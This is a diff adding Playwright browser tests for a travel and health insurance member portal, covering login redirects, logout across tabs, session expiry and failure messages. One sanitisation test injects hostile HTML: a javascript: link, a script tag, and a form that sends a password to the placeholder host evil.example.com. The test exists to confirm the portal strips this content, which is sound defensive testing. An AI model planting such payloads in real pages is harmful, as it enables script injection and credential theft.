@@ -1,0 +1,172 @@
+import type { Page } from '@playwright/test'
+import { expectGoodOnEveryScreen } from './cases.ts'
+import { keptMember, loginPage, logoutButton, memberPage, openMemberPage } from './members.ts'
+import { expect, test } from './portal-test.ts'
+import { password } from './staff.ts'
+
+test.use({
+  beginning: 'demonstration',
+  expectedComplaints: [/status of (401|500)|Failed to load resource/],
+})
+
+const ended = 'Your session has ended, so we logged you out for your safety. Please log in again.'
+const login = (page: Page) => page.getByRole('heading', { level: 1, name: 'Member Login' })
+
+test('a member without an ID card sees what the client wrote, and no form', async ({ page }) => {
+  await openMemberPage(page, 'lagoon-member')
+  await expect(page).toHaveTitle('Lagoon Health Plan · Harborline Assistance')
+  await expect(page.getByRole('link', { name: '1-800-555-0150' })).toHaveAttribute('href', 'tel:+18005550150')
+  await expect(page.getByRole('button', { name: 'Display Insurance Card' })).toHaveCount(0)
+  await expect(page.getByText('German')).toHaveCount(0)
+  await expectGoodOnEveryScreen(page)
+})
+
+test('what the client wrote can neither run, submit nor embed', async ({ page }) => {
+  const content = `<p id="x">Safe <a href="javascript:alert(1)">words</a></p><script>alert(1)</script>
+    <form action="https://evil.example.com"><input name="password"></form>`
+  await page.route('/api/clientmember/page', async (route) => {
+    const response = await route.fetch()
+    await route.fulfill({ response, json: { ...(await response.json()), content } })
+  })
+  await openMemberPage(page, 'lagoon-member')
+  const written = page.getByRole('main').locator('.written')
+  await expect(written).toHaveText(/Safe words/)
+  await expect(written.locator('form, input, script, [href], [id]')).toHaveCount(0)
+})
+
+test('without a login the page leads to it; who is logged in is led from the login to their page', async ({
+  page,
+}) => {
+  await page.goto(memberPage)
+  await expect(page).toHaveURL(loginPage)
+  await expect(login(page)).toBeVisible()
+  await expect(page.getByText(ended)).toHaveCount(0)
+  await openMemberPage(page, 'alpine-member')
+  await page.goto(loginPage)
+  await expect(page).toHaveURL(memberPage)
+})
+
+test('a logout clears what the browser keeps and ends the session on the server; back shows nothing', async ({
+  page,
+}) => {
+  await openMemberPage(page, 'alpine-member')
+  const told = page.waitForResponse('/api/clientmember/logout')
+  await logoutButton(page).click()
+  await expect(login(page)).toBeVisible()
+  await expect(page.getByRole('status').filter({ hasText: 'You are logged out.' })).toBeVisible()
+  await expect(page.getByRole('main')).toBeFocused()
+  await expectGoodOnEveryScreen(page)
+  await (await told).finished()
+  expect(await keptMember(page)).toBeNull()
+  await page.getByRole('button', { name: 'Log in' }).click()
+  await expect(page.getByText('Please enter your username.').first()).toBeVisible()
+  await expect(page.getByText('You are logged out.')).toHaveCount(0)
+  expect((await page.context().request.get('/api/clientmember/page')).status()).toBe(401)
+  await page.goBack()
+  await page.goto(memberPage)
+  await expect(login(page)).toBeVisible()
+  await expect(page.getByText('Alpine Travel Insurance')).toHaveCount(0)
+})
+
+test('the way back after a logout leads to the login', async ({ page }) => {
+  await openMemberPage(page, 'alpine-member')
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Credits' }).click()
+  await expect(page.getByRole('heading', { level: 1, name: 'Credits' })).toBeVisible()
+  await page.goBack()
+  await logoutButton(page).click()
+  await expect(login(page)).toBeVisible()
+  await page.goBack()
+  await page.goForward()
+  await expect(page).toHaveURL(loginPage)
+  await expect(page.getByText('Alpine Travel Insurance')).toHaveCount(0)
+})
+
+test('a logout in one tab ends the other', async ({ page, context }) => {
+  await openMemberPage(page, 'alpine-member')
+  const other = await context.newPage()
+  await other.goto(memberPage)
+  await logoutButton(other).click()
+  await expect(login(page)).toBeVisible()
+  await expect(page.getByText('Alpine Travel Insurance')).toHaveCount(0)
+})
+
+test('a session that has ended on the server leads to the login, with the reason', async ({
+  page,
+  context,
+}) => {
+  await openMemberPage(page, 'alpine-member')
+  await context.clearCookies()
+  await page.reload()
+  await expect(login(page)).toBeVisible()
+  await expect(page.getByRole('status').filter({ hasText: ended })).toBeVisible()
+  await expectGoodOnEveryScreen(page)
+  expect(await keptMember(page)).toBeNull()
+})
+
+test('who comes back to a page whose session ended meanwhile is led to the login', async ({
+  page,
+  context,
+}) => {
+  await openMemberPage(page, 'alpine-member')
+  await context.clearCookies()
+  await page.evaluate(() => window.dispatchEvent(new Event('visibilitychange')))
+  await expect(page.getByText(ended)).toBeVisible()
+})
+
+test('made-up contents of local storage show nothing without a session', async ({ page }) => {
+  await page.goto('/robots.txt', { waitUntil: 'load' })
+  await page.evaluate(() =>
+    localStorage.setItem(
+      'memberConfiguration',
+      JSON.stringify({
+        clientName: 'Made up',
+        content: 'Made up',
+        showIdCard: true,
+        showEnglishAndGerman: true,
+      }),
+    ),
+  )
+  await page.goto(memberPage)
+  await expect(login(page)).toBeVisible()
+  await expect(page.getByText('Made up')).toHaveCount(0)
+})
+
+test('a page that cannot be loaded says so, can be left, and comes when it is tried again', async ({
+  page,
+}) => {
+  await openMemberPage(page, 'alpine-member')
+  await page.route('/api/clientmember/page', (route) => route.abort())
+  await page.reload()
+  await expect(page.getByText('Your page could not be loaded.')).toBeVisible()
+  await expect(logoutButton(page)).toBeVisible()
+  await expectGoodOnEveryScreen(page)
+  await page.unroute('/api/clientmember/page')
+  await page.getByRole('button', { name: 'Try again' }).click()
+  await expect(page.getByRole('heading', { level: 1, name: 'Alpine Travel Insurance' })).toBeVisible()
+})
+
+test('a logout of which the portal could not be told is a logout here, and says what to do', async ({
+  page,
+}) => {
+  await openMemberPage(page, 'alpine-member')
+  await page.route('/api/clientmember/logout', (route) => route.abort())
+  await logoutButton(page).click()
+  await expect(login(page)).toBeVisible()
+  await expect(page.getByRole('alert')).toContainText(
+    'You are logged out in this browser, but the portal could not be told.',
+  )
+  expect(await keptMember(page)).toBeNull()
+})
+
+test('another member who logs in in the same browser sees their own page', async ({ page, context }) => {
+  await openMemberPage(page, 'alpine-member')
+  const other = await context.newPage()
+  await other.goto(memberPage)
+  await logoutButton(other).click()
+  await expect(login(other)).toBeVisible()
+  await other.getByLabel('Username').fill('lagoon-member')
+  await other.getByLabel('Password', { exact: true }).fill(password)
+  await other.keyboard.press('Enter')
+  await expect(other.getByRole('heading', { level: 1, name: 'Lagoon Health Plan' })).toBeVisible()
+  await expect(page).toHaveURL(loginPage)
+})
